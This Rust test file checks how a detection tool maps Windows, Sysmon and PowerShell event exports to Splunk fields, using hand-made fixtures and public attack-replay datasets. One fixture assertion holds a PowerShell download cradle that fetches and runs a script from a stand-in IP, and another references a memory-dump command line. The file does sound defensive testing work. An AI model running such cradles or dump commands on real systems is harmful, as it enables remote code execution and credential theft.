//! Tests of the search-time fields: every event of the hand-made exports (snapshotted), the
//! data sources' `example_log`s of `../shared/security_content-2024` checked against their
//! field lists, the real shared datasets per source, `_raw` and the verbatim promise.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use detection::eval::FieldValue;
use detection::events::{Event, EventReader, RawFormat};
use detection::fields::{Origin, SplunkEvent, is_verbatim_in_xml_export};

use crate::support::{fixture, repo_root, shared_2024, shared_datasets, with_snapshots};

/// Every event of `path`; fails the test on a reading error or a skip.
#[track_caller]
pub(crate) fn events_of(path: &Path) -> Vec<Event> {
    let mut reader = EventReader::open(path).unwrap().strict(true);
    let events: Vec<Event> = reader.by_ref().collect::<Result<_, _>>().unwrap();
    events
}

/// The hand-made exports of the sources beyond process creation.
pub(crate) const SOURCE_FIXTURES: &[&str] =
    &["sysmon_sources.log", "windows_sources.log", "classic_export.log"];

/// An event's fields without `_raw` (the fixture itself) and with the checkout's path out of
/// `source` where the event has no channel.
fn shown(view: &SplunkEvent<'_>) -> BTreeMap<String, FieldValue> {
    let root = format!("{}/", repo_root().display());
    view.fields()
        .into_iter()
        .filter(|(name, _)| name != "_raw")
        .map(|(name, value)| match value {
            FieldValue::Single(text) => (name, FieldValue::Single(text.replace(&root, ""))),
            multi @ FieldValue::Multi(_) => (name, multi),
        })
        .collect()
}

#[test]
fn fixture_events_have_the_add_ons_fields() {
    let origin = Origin::derived();
    for name in SOURCE_FIXTURES {
        let events = events_of(&fixture(&format!("events/{name}")));
        let fields: Vec<BTreeMap<String, FieldValue>> =
            events.iter().map(|event| shown(&SplunkEvent::new(event, &origin))).collect();
        with_snapshots(|| insta::assert_yaml_snapshot!(format!("fields@{name}"), fields));
    }
}

#[test]
fn raw_is_the_event_text_as_written() {
    let path = fixture("events/windows_sources.log");
    let text = std::fs::read_to_string(&path).unwrap();
    let events = events_of(&path);
    // XML exports: each event's bytes from `<Event` to `</Event>`, entities and CRLF kept.
    let written: Vec<String> = text
        .split_inclusive("</Event>")
        .map(|event| event.trim_start_matches("\r\n").to_owned())
        .filter(|event| !event.trim().is_empty())
        .collect();
    let raws: Vec<String> = events.iter().map(|event| event.raw.clone()).collect();
    assert_eq!(raws, written);
    let script = events.iter().find(|event| event.event_id == 4104).unwrap();
    assert!(script.raw.contains("\r\nif ($wc -ne $null)"));
    assert_eq!(script.raw_format, RawFormat::Xml);
    // Classic exports: the event's lines up to the line break before the next date line.
    let classic = std::fs::read_to_string(fixture("events/classic_export.log")).unwrap();
    let events = events_of(&fixture("events/classic_export.log"));
    for event in &events {
        assert_eq!(event.raw_format, RawFormat::Classic);
        assert!(classic.contains(&event.raw), "{}", event.raw);
        assert!(!event.raw.ends_with('\n') && !event.raw.ends_with('\r'));
    }
    let first = events.first().unwrap();
    assert!(first.raw.starts_with("05/06/2024 11:12:13 AM\r\nLogName=Security\r\n"));
    assert!(first.raw.ends_with("C:\\Temp\\m.dmp full"));
}

#[test]
fn script_block_text_keeps_every_line() {
    let origin = Origin::derived();
    // XML: the value between the tags as written, CRLF and entities kept (reference §5).
    let events = events_of(&fixture("events/windows_sources.log"));
    let script = events.iter().find(|event| event.event_id == 4104).unwrap();
    let view = SplunkEvent::new(script, &origin);
    assert_eq!(
        view.value("ScriptBlockText"),
        Some(FieldValue::Single(
            "$wc = New-Object Net.WebClient\r\nif ($wc -ne $null) { IEX \
             $wc.DownloadString('http://198.51.100.7/a.ps1') }\r\n# 1 &lt; 2 &amp;&amp; done"
                .to_owned()
        ))
    );
    // Classic: the script between the message's first line and `ScriptBlock ID:`, its lines
    // not read as `Key: value` fields.
    let events = events_of(&fixture("events/classic_export.log"));
    let script = events.iter().find(|event| event.event_id == 4104).unwrap();
    let view = SplunkEvent::new(script, &origin);
    assert_eq!(
        view.value("ScriptBlockText"),
        Some(FieldValue::Single("$s = 'a'\r\nWrite-Host: $s".to_owned()))
    );
    assert_eq!(view.value("Write_Host"), None);
    assert_eq!(view.value("Path"), Some(FieldValue::Single(r"C:\Users\erin\run.ps1".to_owned())));
    assert_eq!(
        view.value("ScriptBlockId"),
        Some(FieldValue::Single("29402f81-19c5-4b58-aa06-4a5f67f1558f".to_owned()))
    );
}

#[test]
fn source_sourcetype_and_eventtype_follow_the_origin() {
    let events = events_of(&fixture("events/windows_sources.log"));
    let security = events.iter().find(|event| event.event_id == 4624).unwrap();
    let derived = Origin::derived();
    let view = SplunkEvent::new(security, &derived);
    assert_eq!(view.source(), "XmlWinEventLog:Security");
    assert_eq!(view.sourcetype(), "XmlWinEventLog");
    assert_eq!(view.host(), "dc02.lab.local");
    assert_eq!(view.eventtypes(), ["wineventlog_security"]);
    // A rule test's attack_data entry names the file's source and sourcetype: every event of
    // the file has them, as Splunk's replay indexes the whole file under them.
    let given =
        Origin::given("XmlWinEventLog:Microsoft-Windows-Sysmon/Operational", "xmlwineventlog")
            .with_host("replay");
    let view = SplunkEvent::new(security, &given);
    assert_eq!(view.source(), "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational");
    assert_eq!(view.value("sourcetype"), Some(FieldValue::Single("xmlwineventlog".to_owned())));
    assert_eq!(view.value("host"), Some(FieldValue::Single("replay".to_owned())));
    assert_eq!(view.value("eventtype"), None);
    // `eventtype` compares the source as a search does, ignoring case.
    let lower = Origin::derived().with_source("xmlwineventlog:security");
    assert_eq!(SplunkEvent::new(security, &lower).eventtypes(), ["wineventlog_security"]);
    let system = events.iter().find(|event| event.event_id == 7045).unwrap();
    assert_eq!(SplunkEvent::new(system, &derived).eventtypes(), ["wineventlog_system"]);
    // Classic events: `WinEventLog:<LogName>` and `WinEventLog`.
    let classic = events_of(&fixture("events/classic_export.log"));
    let view = SplunkEvent::new(classic.first().unwrap(), &derived);
    assert_eq!(view.source(), "WinEventLog:Security");
    assert_eq!(view.sourcetype(), "WinEventLog");
    assert_eq!(view.eventtypes(), ["wineventlog_security"]);
    let sysmon = events_of(&fixture("events/sysmon_sources.log"));
    let dns = sysmon.iter().find(|event| event.event_id == 22).unwrap();
    assert_eq!(SplunkEvent::new(dns, &derived).eventtypes(), ["ms-sysmon-dns"]);
}

#[test]
fn derived_fields_win_over_extracted_ones_and_leave_them_when_empty() {
    // props.conf.spec: "Field aliasing is performed at search time, after field extraction,
    // but before calculated fields (EVAL-* statements)"; an `AS` alias "replaces" a field that
    // already exists.
    let events = events_of(&fixture("events/sysmon_sources.log"));
    let origin = Origin::derived();
    let dns = events.iter().find(|event| event.event_id == 22).unwrap();
    let view = SplunkEvent::new(dns, &origin);
    // The add-on's `dest` is not the Computer for a DNS query.
    assert_eq!(view.value("dest"), None);
    assert_eq!(
        view.value("answer"),
        Some(FieldValue::Multi(vec![
            "type:  5 cdn.example.net".to_owned(),
            "::ffff:198.51.100.7".to_owned(),
            "198.51.100.7".to_owned()
        ]))
    );
    let classic = events_of(&fixture("events/classic_export.log"));
    let view = SplunkEvent::new(classic.first().unwrap(), &origin);
    // No XML `EventID`: the classic `EventCode` is the field.
    assert_eq!(view.value("EventCode"), Some(FieldValue::Single("4688".to_owned())));
    assert_eq!(
        view.value("Account_Name"),
        Some(FieldValue::Multi(vec!["erin".to_owned(), "-".to_owned()]))
    );
    assert_eq!(view.value("user"), Some(FieldValue::Single(r"LAB\erin".to_owned())));
}

/// Every value of every field `is_verbatim` calls verbatim is a substring of `_raw`, and
/// every field `is_verbatim_in_xml_export` calls verbatim is so in every XML export event.
#[track_caller]
fn check_verbatim(events: &[Event], name: &str) {
    let origin = Origin::derived();
    for event in events {
        let view = SplunkEvent::new(event, &origin);
        for (field, value) in view.fields() {
            let verbatim = view.is_verbatim(&field);
            if event.raw_format == RawFormat::Xml
                && event.value_form == detection::events::ValueForm::XmlRaw
            {
                assert!(
                    !is_verbatim_in_xml_export(&field) || verbatim,
                    "{name}: {field} is verbatim in XML exports but not in this event"
                );
            }
            if verbatim {
                for value in value.values() {
                    assert!(event.raw.contains(value), "{name}: {field}={value:?} is not in _raw");
                }
            }
        }
    }
}

#[test]
fn verbatim_fields_are_substrings_of_raw() {
    for name in SOURCE_FIXTURES.iter().chain(["export_lf.log", "export_crlf.log"].iter()) {
        check_verbatim(&events_of(&fixture(&format!("events/{name}"))), name);
    }
    let events = events_of(&fixture("events/sysmon_sources.log"));
    let origin = Origin::derived();
    let view = SplunkEvent::new(events.first().unwrap(), &origin);
    assert!(view.is_verbatim("_raw") && view.is_verbatim("DestinationIp"));
    assert!(view.is_verbatim("dest") && view.is_verbatim("src_ip"));
    for computed in ["_time", "source", "sourcetype", "eventtype", "direction", "vendor_product"] {
        assert!(!view.is_verbatim(computed), "{computed}");
        assert!(!is_verbatim_in_xml_export(computed), "{computed}");
    }
    // `process_integrity_level` is lower-cased somewhere; `registry_path` is joined for 4657.
    assert!(!is_verbatim_in_xml_export("process_integrity_level"));
    assert!(!is_verbatim_in_xml_export("registry_path"));
    assert!(is_verbatim_in_xml_export("TargetObject") && is_verbatim_in_xml_export("Image"));
    // JSON values are decoded text, not the object's.
    let json = events_of(&fixture("events/flat_lines.json"));
    let view = SplunkEvent::new(json.first().unwrap(), &origin);
    assert!(!view.is_verbatim("CommandLine") && view.is_verbatim("_raw"));
}

#[test]
fn shared_exports_keep_the_verbatim_promise() {
    let Some(datasets) = shared_datasets("shared_exports_keep_the_verbatim_promise") else {
        return;
    };
    for path in crate::support::files_below(&datasets) {
        if path.extension().is_some_and(|ext| ext == "md") {
            continue;
        }
        let events: Vec<Event> = EventReader::open(&path).unwrap().filter_map(Result::ok).collect();
        check_verbatim(&events, &path.display().to_string());
    }
}

/// A data source YAML of `../shared/security_content-2024/data_sources/`.
#[derive(serde::Deserialize)]
struct DataSource {
    name: String,
    #[serde(default)]
    source: Option<String>,
    #[serde(default)]
    fields: Vec<String>,
    #[serde(default)]
    example_log: Option<String>,
}

/// Fields the data sources list that Splunk itself sets or that depend on an index, a
/// server or a time zone: not produced by a tool that reads exports.
const SPLUNK_INTERNAL: &[&str] = &[
    "date_hour",
    "date_mday",
    "date_minute",
    "date_month",
    "date_second",
    "date_wday",
    "date_year",
    "date_zone",
    "index",
    "punct",
    "splunk_server",
    "tag",
    "tag::action",
    "tag::app",
    "tag::eventtype",
    "tag::object_category",
    "timeendpos",
    "timestartpos",
];

/// Fields produced that a data source's list lacks, on purpose: content reads them.
const BEYOND_THE_LISTS: &[&str] = &[
    // `Endpoint.Processes` names for Sysmon 7's loaded image, read by content (`sysmon`
    // `EventCode=7 … loaded_file_path IN (…)`); the lists predate them.
    "loaded_file",
    "loaded_file_path",
    "original_file_name",
    // Content groups Sysmon 7 by `process_guid` (`stats … by … process_guid`).
    "process_guid",
    "process_id",
];

/// Per data source with an XML or classic `example_log`: the fields produced from it that
/// its list lacks, and those it lists that are not produced (known gaps).
#[derive(serde::Serialize)]
struct Coverage {
    data_source: String,
    /// Why the example could not be read, when it cannot (a truncated example).
    #[serde(skip_serializing_if = "Option::is_none")]
    example_error: Option<String>,
    produced_not_listed: BTreeSet<String>,
    listed_not_produced: BTreeSet<String>,
}

#[test]
fn data_source_examples_give_the_listed_fields() {
    let Some(content) = shared_2024("data_source_examples_give_the_listed_fields") else {
        return;
    };
    let dir = content.join("data_sources");
    let mut coverage = Vec::new();
    let mut read = 0;
    for path in crate::support::files_below(&dir) {
        let text = std::fs::read_to_string(&path).unwrap();
        let source: DataSource = serde_yaml::from_str(&text).unwrap();
        let Some(example) = source.example_log.as_deref() else { continue };
        // XML events, and classic text events (which start with their date line).
        let windows = source.source.as_deref().is_some_and(|s| s.contains("WinEventLog"))
            && (example.starts_with("<Event")
                || example.as_bytes().get(2) == Some(&b'/') && example.contains("LogName="));
        if !windows {
            continue;
        }
        let events = match read_example(&path, example) {
            Ok(events) => events,
            Err(error) => {
                coverage.push(Coverage {
                    data_source: source.name,
                    example_error: Some(error.replace(&path.display().to_string(), "example")),
                    produced_not_listed: BTreeSet::new(),
                    listed_not_produced: BTreeSet::new(),
                });
                continue;
            }
        };
        let [event] = events.as_slice() else {
            panic!("{}: the example gives {} events", path.display(), events.len());
        };
        read += 1;
        let origin = Origin::derived();
        let view = SplunkEvent::new(event, &origin);
        let produced: BTreeSet<String> = view.fields().into_keys().collect();
        let listed: BTreeSet<String> = source.fields.iter().cloned().collect();
        let extracted: BTreeSet<String> =
            event.data.iter().map(|(name, _)| name.to_owned()).collect();
        let produced_not_listed: BTreeSet<String> = produced
            .difference(&listed)
            .filter(|name| {
                !extracted.contains(*name)
                    && !BEYOND_THE_LISTS.contains(&name.as_str())
                    && !["_raw", "linecount", "eventtype", "host", "source", "sourcetype"]
                        .contains(&name.as_str())
            })
            .cloned()
            .collect();
        let listed_not_produced = listed
            .difference(&produced)
            .filter(|name| !SPLUNK_INTERNAL.contains(&name.as_str()))
            .cloned()
            .collect();
        coverage.push(Coverage {
            data_source: source.name,
            example_error: None,
            produced_not_listed,
            listed_not_produced,
        });
    }
    assert!(read >= 40, "{read} examples read");
    // Every field produced is listed, but where a list is known to be partial.
    for each in &coverage {
        let allowed: &[&str] = match each.data_source.as_str() {
            // The list has no `_time` and no `date_*`: taken from fewer events than most.
            "Windows Event Log Security 4688" => {
                &["EventData_Xml", "System_Props_Xml", "_time", "dest_nt_domain"]
            }
            // The subject is in `UserData` here; the list has `Caller_User_Name` and
            // `src_user` from it but not the domain and logon id aliases.
            "Windows Event Log Security 1102" => &["Caller_Domain", "Logon_ID", "src_nt_domain"],
            _ => &[],
        };
        let unexpected: Vec<&String> = each
            .produced_not_listed
            .iter()
            .filter(|name| !allowed.contains(&name.as_str()))
            .collect();
        assert!(unexpected.is_empty(), "{}: {unexpected:?} are not listed", each.data_source);
    }
    with_snapshots(|| insta::assert_yaml_snapshot!("data_source_coverage@shared", coverage));
}

/// The events of a data source's `example_log`, read as an export file would be.
fn read_example(path: &Path, example: &str) -> Result<Vec<Event>, String> {
    let name = path.display().to_string();
    let bytes = example.as_bytes().to_vec();
    let reader = EventReader::from_reader(&name, std::io::Cursor::new(bytes)).unwrap();
    reader.strict(true).collect::<Result<_, _>>().map_err(|err| err.to_string())
}

/// The files of the shared datasets below `relative`.
fn shared(datasets: &Path, relative: &str) -> PathBuf {
    datasets.join(relative)
}

#[track_caller]
fn single(view: &SplunkEvent<'_>, name: &str) -> String {
    match view.value(name) {
        Some(FieldValue::Single(value)) => value,
        other => panic!("{name}: {other:?}"),
    }
}

#[test]
fn shared_datasets_give_each_sources_fields() {
    let Some(datasets) = shared_datasets("shared_datasets_give_each_sources_fields") else {
        return;
    };
    let origin = Origin::derived();
    let certify = events_of(&shared(
        &datasets,
        "splunk-attack_data/datasets/attack_techniques/T1649/certify_abuse/certify_esc1_abuse_sysmon.log",
    ));
    // Sysmon 3: the connection's addresses, and the host that logged it as `dvc`.
    let network = certify.iter().find(|event| event.event_id == 3).unwrap();
    let view = SplunkEvent::new(network, &origin);
    assert_eq!(single(&view, "dest_ip"), network.data("DestinationIp").unwrap());
    assert_eq!(single(&view, "dest"), network.data("DestinationIp").unwrap());
    assert_eq!(single(&view, "src_ip"), network.data("SourceIp").unwrap());
    assert_eq!(single(&view, "dvc"), network.computer);
    assert_eq!(single(&view, "action"), "allowed");
    // Sysmon 11: the file written.
    let file = certify.iter().find(|event| event.event_id == 11).unwrap();
    let view = SplunkEvent::new(file, &origin);
    let target = file.data("TargetFilename").unwrap();
    assert_eq!(single(&view, "file_path"), target);
    assert!(target.ends_with(&single(&view, "file_name")));
    assert_eq!(single(&view, "dest"), file.computer);
    // Sysmon 22, in a file named "sysmon" that also holds Security events.
    let mixed = events_of(&shared(
        &datasets,
        "splunk-attack_data/datasets/attack_techniques/T1003.002/atomic_red_team/sysmon.log",
    ));
    let dns = mixed.iter().find(|event| event.event_id == 22).unwrap();
    let view = SplunkEvent::new(dns, &origin);
    assert_eq!(single(&view, "query"), dns.data("QueryName").unwrap());
    assert_eq!(view.value("answer"), None, "QueryResults is `-`");
    let security = mixed.iter().find(|event| event.event_id == 4688).unwrap();
    let view = SplunkEvent::new(security, &origin);
    assert_eq!(view.source(), "XmlWinEventLog:Security");
    assert_eq!(single(&view, "signature"), "A new process has been created");
    // Sysmon 10: source process as parent, target as process.
    let access = events_of(&shared(
        &datasets,
        "splunk-attack_data/datasets/attack_techniques/T1202/atomic_red_team/windows-sysmon.log",
    ));
    let access = access.iter().find(|event| event.event_id == 10).unwrap();
    let view = SplunkEvent::new(access, &origin);
    assert_eq!(single(&view, "process_path"), access.data("TargetImage").unwrap());
    assert_eq!(single(&view, "parent_process_path"), access.data("SourceImage").unwrap());
    assert_eq!(single(&view, "granted_access"), access.data("GrantedAccess").unwrap());
    // Security 4662, values with CRLF kept.
    let directory = events_of(&shared(
        &datasets,
        "splunk-attack_data/datasets/attack_techniques/T1003.006/impacket/windows-security-xml.log",
    ));
    let view = SplunkEvent::new(directory.first().unwrap(), &origin);
    assert_eq!(single(&view, "EventCode"), "4662");
    assert!(single(&view, "Properties").contains("\r\n"));
    assert_eq!(single(&view, "src_user"), directory[0].data("SubjectUserName").unwrap());
    // JSON (OTRF): Sysmon 7 and 13 from flat objects; the JSON-wrapped export.
    let otrf = events_of(&shared(
        &datasets,
        "otrf-security-datasets/psh_lsass_memory_dump_comsvcs_2020-10-18T19500924.json",
    ));
    let image = otrf.iter().find(|event| event.event_id == 7).unwrap();
    let view = SplunkEvent::new(image, &origin);
    assert_eq!(single(&view, "loaded_file_path"), image.data("ImageLoaded").unwrap());
    assert_eq!(image.raw_format, RawFormat::Json);
    let registry = otrf.iter().find(|event| event.event_id == 13).unwrap();
    let view = SplunkEvent::new(registry, &origin);
    assert_eq!(single(&view, "registry_path"), registry.data("TargetObject").unwrap());
    assert_eq!(single(&view, "action"), "modified");
    let wrapped = events_of(&shared(
        &datasets,
        "splunk-attack_data/attack_data/datasets/attack_techniques/T1003/test/sysmon.log",
    ));
    let plain = events_of(&shared(
        &datasets,
        "splunk-attack_data/datasets/attack_techniques/T1003/test/sysmon.xml",
    ));
    let fields = |events: &[Event]| -> Vec<BTreeMap<String, FieldValue>> {
        events.iter().map(|event| SplunkEvent::new(event, &origin).fields()).collect()
    };
    // The export inside the JSON string reads as the plain export does: each event's
    // fields, its `_raw` the unescaped `<Event>` text.
    assert_eq!(wrapped.len(), 5);
    assert!(wrapped.iter().all(|event| event.raw.starts_with("<Event ")));
    let (wrapped, plain) = (fields(&wrapped), fields(&plain));
    let kinds = |all: &[BTreeMap<String, FieldValue>]| -> BTreeSet<String> {
        all.iter().filter_map(|fields| fields.get("EventCode")).map(FieldValue::joined).collect()
    };
    assert!(kinds(&wrapped).is_subset(&kinds(&plain)));
    assert!(wrapped.iter().all(|fields| fields.contains_key("process_name")));
    // EVTX: `_raw` is the crate's XML rendering; values are decoded.
    let evtx = events_of(&shared(
        &datasets,
        "evtx-attack-samples/sysmon_10_1_memdump_comsvcs_minidump.evtx",
    ));
    let record = evtx.iter().find(|event| event.location.record == Some(4)).unwrap();
    assert!(record.raw.starts_with("<Event xmlns="), "{}", record.raw);
    assert!(record.raw.ends_with("</Event>"));
    let view = SplunkEvent::new(record, &origin);
    assert_eq!(single(&view, "process_name"), "rundll32.exe");
    assert_eq!(single(&view, "Channel"), "Microsoft-Windows-Sysmon/Operational");
    assert_eq!(single(&view, "Name"), "Microsoft-Windows-Sysmon");
}
